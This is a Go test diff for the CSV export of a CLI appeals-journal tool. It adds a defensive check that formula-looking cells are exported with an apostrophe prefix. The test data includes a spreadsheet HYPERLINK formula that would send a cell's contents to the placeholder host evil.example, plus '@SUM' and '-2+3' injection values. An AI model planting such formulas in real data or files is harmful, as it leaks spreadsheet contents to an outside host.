@@ -22,7 +22,7 @@ func runCLI(t *testing.T, args ...string) (string, error) {
 	app.Writer = &out
 	app.ErrWriter = &out
 	app.ExitErrHandler = func(*cli.Context, error) {}
-	err := app.Run(append([]string{"obzvon"}, args...))
+	err := runApp(app, append([]string{"obzvon"}, args...))
 	return out.String(), err
 }
 
@@ -122,6 +122,12 @@ func TestJournalExportAndSearch(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
+	// Formula injection (OWASP): cells a spreadsheet would evaluate.
+	evil := &journal.Appeal{Channel: journal.ChannelPhone, Phone: "89000000000", Kind: journal.KindConsultation, Topic: "x",
+		Text: `=HYPERLINK("http://evil.example/?"&E2,"Подробнее")`, Person: journal.PersonData{Surname: "@SUM(1+1)", Name: "-2+3"}}
+	if err := j.CreateAppeal(context.Background(), op, evil); err != nil {
+		t.Fatal(err)
+	}
 	j.Close()
 	out, err := runCLI(t, "journal", "export", "--dir", dir, "--format", "csv")
 	if err != nil {
@@ -133,8 +139,11 @@ func TestJournalExportAndSearch(t *testing.T) {
 	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
 	r.Comma = ';'
 	rows, err := r.ReadAll()
-	if err != nil || len(rows) != 3 || rows[1][11] != "Первое; с точкой с запятой" || rows[2][11] != "Второе\nв две строки" || rows[1][7] != "17.05.1980" || rows[1][12] != "В работе" {
+	if err != nil || len(rows) != 4 || rows[1][11] != "Первое; с точкой с запятой" || rows[2][11] != "Второе\nв две строки" || rows[1][7] != "17.05.1980" || rows[1][12] != "В работе" {
 		t.Fatalf("export rows = %q, %v", rows, err)
+	}
+	if e := rows[3]; e[11] != `'=HYPERLINK("http://evil.example/?"&E2,"Подробнее")` || e[4] != "'@SUM(1+1)" || e[5] != "'-2+3" || e[3] != "+79000000000" {
+		t.Errorf("formula-looking cells exported as %q, want them prefixed with ' (phone left alone)", e)
 	}
 	out, err = runCLI(t, "journal", "search", "--dir", dir, "--phone", "+7 912 345-67-89", "--json")
 	var refs []journal.AppealRef
